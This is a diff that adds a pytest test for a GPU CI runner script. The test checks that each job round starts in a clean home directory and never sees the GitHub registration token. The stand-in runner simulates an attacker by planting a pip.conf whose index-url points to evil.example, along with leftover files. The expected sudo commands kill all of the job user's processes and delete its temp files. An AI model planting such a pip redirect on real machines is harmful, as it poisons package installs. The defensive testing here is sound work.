@@ -1,0 +1,124 @@
+"""Each GPU round starts clean (issue 19, hole 8): `.github/gpu-runner/jit-runner.sh` run for
+two rounds against stand-ins for GitHub's API (curl), sudo and the runner (run.sh), all on
+PATH in a temporary folder. The stand-in runner records what a job would see and plants
+what the attacker planted (~/.config/pip/pip.conf, a notebook store, a file in its runner
+folder); the second round must see none of it, and neither round may see the token. The
+stand-in sudo records each command and runs only the harmless ones (the script's `kill -1`
+and `find … -delete` would act on this machine's user). What only a real second user can
+show (that JOB_USER cannot read the token file) is the script's refusal to run as JOB_USER
+or with a token file other users may read, tested here too."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import REPO_ROOT
+
+SCRIPT = REPO_ROOT / ".github" / "gpu-runner" / "jit-runner.sh"
+TOKEN = "ghs_the-registration-token-0123456789"
+
+CURL = """#!/bin/bash
+printf '%s\\n' "$*" >> "$LOG_DIR/curl.args"
+n=$(( $(ls "$LOG_DIR" | grep -c '^round.*[.]env$') + 1 ))
+printf '{"encoded_jit_config": "JIT-%s"}' "$n"
+"""
+SUDO = """#!/bin/bash
+printf '%s\\n' "$*" >> "$LOG_DIR/sudo.log"
+while [ "$1" != "--" ]; do shift; done; shift
+case "$1" in /bin/kill|find) exit 0 ;; esac
+exec "$@"
+"""
+RUN_SH = """#!/bin/bash
+n=$(( $(ls "$LOG_DIR" | grep -c '^round.*[.]env$') + 1 ))
+{ env; echo "PWD=$PWD"; } > "$LOG_DIR/round$n.env"
+ls -A "$HOME" > "$LOG_DIR/round$n.home"; ls -A . > "$LOG_DIR/round$n.runner"
+mkdir -p "$HOME/.config/pip" "$HOME/.cache/vramfarm-guide"
+echo "[global]\nindex-url = https://evil.example/simple" > "$HOME/.config/pip/pip.conf"
+touch "$HOME/.cache/vramfarm-guide/planted.ipynb" ./planted-tool
+"""
+
+
+def executable(path: Path, text: str) -> Path:
+    path.write_text(text)
+    path.chmod(0o755)
+    return path
+
+
+@pytest.fixture
+def harness(tmp_path):
+    bin_dir, logs, runner, scratch = (tmp_path / name for name in ("bin", "logs", "runner", "scratch"))
+    for folder in (bin_dir, logs, runner, scratch):
+        folder.mkdir()
+    executable(bin_dir / "curl", CURL)
+    executable(bin_dir / "sudo", SUDO)
+    executable(runner / "run.sh", RUN_SH.replace("$LOG_DIR", str(logs)))
+    token = tmp_path / "token"
+    token.write_text(TOKEN)
+    token.chmod(0o600)
+    env = {"PATH": f"{bin_dir}:{os.environ['PATH']}", "LOG_DIR": str(logs), "GH_ORG": "vramfarm", "RUNNER_GROUP_ID": "7",
+           "GH_TOKEN_FILE": str(token), "RUNNER_DIR": str(runner), "JOB_USER": "gpu-job", "ROUNDS": "2",
+           "ROUND_ROOT": str(scratch), "HOME": str(tmp_path / "broker-home"), "GH_PAT": TOKEN}
+    return {"env": env, "logs": logs, "scratch": scratch, "token": token, "runner": runner}
+
+
+def run(harness):
+    return subprocess.run(["bash", str(SCRIPT)], env=harness["env"], capture_output=True, text=True, timeout=60)
+
+
+def environment(path: Path) -> dict[str, str]:
+    return dict(line.split("=", 1) for line in path.read_text().splitlines() if "=" in line)
+
+
+def test_two_rounds_each_start_clean_and_never_see_the_token(harness):
+    result = run(harness)
+    assert result.returncode == 0, result.stderr
+    logs = harness["logs"]
+    rounds = [environment(logs / f"round{n}.env") for n in (1, 2)]
+    assert [r["ACTIONS_RUNNER_INPUT_JITCONFIG"] for r in rounds] == ["JIT-1", "JIT-2"]  # one config per round
+    for n, seen in enumerate(rounds, start=1):
+        assert seen["PIP_CONFIG_FILE"] == "/dev/null" and seen["PIP_NO_CACHE_DIR"] == "1", seen
+        assert seen["GUIDE_NOTEBOOK_STORE"] == "off"
+        assert seen["XDG_CONFIG_HOME"] == f"{seen['HOME']}/.config" and seen["XDG_CACHE_HOME"] == f"{seen['HOME']}/.cache"
+        assert Path(seen["HOME"]).parent == harness["scratch"] and Path(seen["PWD"]).parent == harness["scratch"]
+        # nothing of the broker's environment: no token, no path to it, no other variable
+        assert TOKEN not in json.dumps(seen) and str(harness["token"]) not in json.dumps(seen)
+        assert set(seen) <= {"HOME", "PATH", "LANG", "XDG_CONFIG_HOME", "XDG_CACHE_HOME", "XDG_DATA_HOME", "PIP_CONFIG_FILE",
+                             "PIP_NO_CACHE_DIR", "PIP_DISABLE_PIP_VERSION_CHECK", "GUIDE_NOTEBOOK_STORE",
+                             "ACTIONS_RUNNER_INPUT_JITCONFIG", "PWD", "SHLVL", "_", "OLDPWD"}, sorted(seen)
+        assert (logs / f"round{n}.home").read_text() == "", "a fresh HOME is empty"
+        assert (logs / f"round{n}.runner").read_text().split() == ["run.sh"], "a fresh copy of the runner"
+    assert rounds[0]["HOME"] != rounds[1]["HOME"] and rounds[0]["PWD"] != rounds[1]["PWD"]
+    assert list(harness["scratch"].iterdir()) == [], "each round's HOME and runner copy are removed"
+    assert not (harness["runner"] / "planted-tool").exists()
+    # the token only in a header read from a file descriptor, never on a command line
+    assert TOKEN not in (logs / "curl.args").read_text() and TOKEN not in (logs / "sudo.log").read_text()
+    jobs = (logs / "sudo.log").read_text().splitlines()
+    assert all(line.startswith("--non-interactive --user=gpu-job -- ") for line in jobs)
+    assert sum("/bin/kill -KILL -1" in line for line in jobs) == 2  # every process of the job user, each round
+    assert sum(line.endswith("find /tmp /var/tmp /dev/shm -xdev -user gpu-job -delete") for line in jobs) == 2
+    assert not any("JIT-" in line for line in jobs), "the config goes on standard input, not on sudo's command line"
+
+
+def test_it_refuses_to_run_jobs_as_the_user_that_holds_the_token(harness):
+    harness["env"]["JOB_USER"] = subprocess.run(["id", "-un"], capture_output=True, text=True).stdout.strip()
+    result = run(harness)
+    assert result.returncode == 2 and "could read the token" in result.stderr
+    assert not (harness["logs"] / "curl.args").exists()
+
+
+def test_it_refuses_a_token_file_others_may_read(harness):
+    harness["token"].chmod(0o644)
+    result = run(harness)
+    assert result.returncode == 2 and "mode 600" in result.stderr
+    assert not (harness["logs"] / "curl.args").exists()
+
+
+def test_the_script_passes_shellcheck():
+    assert shutil.which("shellcheck")
+    assert subprocess.run(["shellcheck", str(SCRIPT)], capture_output=True, text=True).returncode == 0
